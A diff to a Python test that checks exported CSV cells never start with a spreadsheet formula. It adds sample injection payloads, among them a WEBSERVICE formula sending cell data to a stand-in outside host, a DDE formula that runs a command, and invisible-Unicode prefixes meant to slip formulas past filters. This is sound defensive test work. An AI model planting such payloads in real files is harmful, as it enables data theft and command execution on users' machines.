@@ -42,6 +42,11 @@ WORDS = (
     "a;b,c|d",
     'say "x", =2',
     "\u202efdp.exe",
+    '=WEBSERVICE("https://elsewhere.example/"&A1)',
+    '=DDE("cmd";"/C calc";"x")',
+    "\u2067=1+1",
+    "\u061c\ufe0f@SUM(A1)",
+    "\u3164-2+3|x",
 )
 FIELDS = ("city", "warehouse", "wave", "carrier", "category", "tier", "exception")
 
@@ -74,7 +79,7 @@ def test_no_cell_of_a_csv_is_a_formula_and_every_word_is_there(view: View) -> No
     assert len(listed) == len(WORDS), "no word broke a line"
     for row in rows:
         for cell in row:
-            seen = re.sub(r"[\s\u200b-\u200f\u2060\ufeff\u00a0]", "", cell)
+            seen = re.sub(r"[\s\u061c\u200b-\u200f\u202a-\u202e\u2060-\u206f\u3164\ufe0f\ufeff\u00a0]", "", cell)
             is_number = bool(re.fullmatch(r"-?\d+(\.\d+)?", cell))
             assert is_number or not seen.startswith(FORMULA_STARTS), repr(cell)
     told = " ".join(cell for row in listed for cell in row)
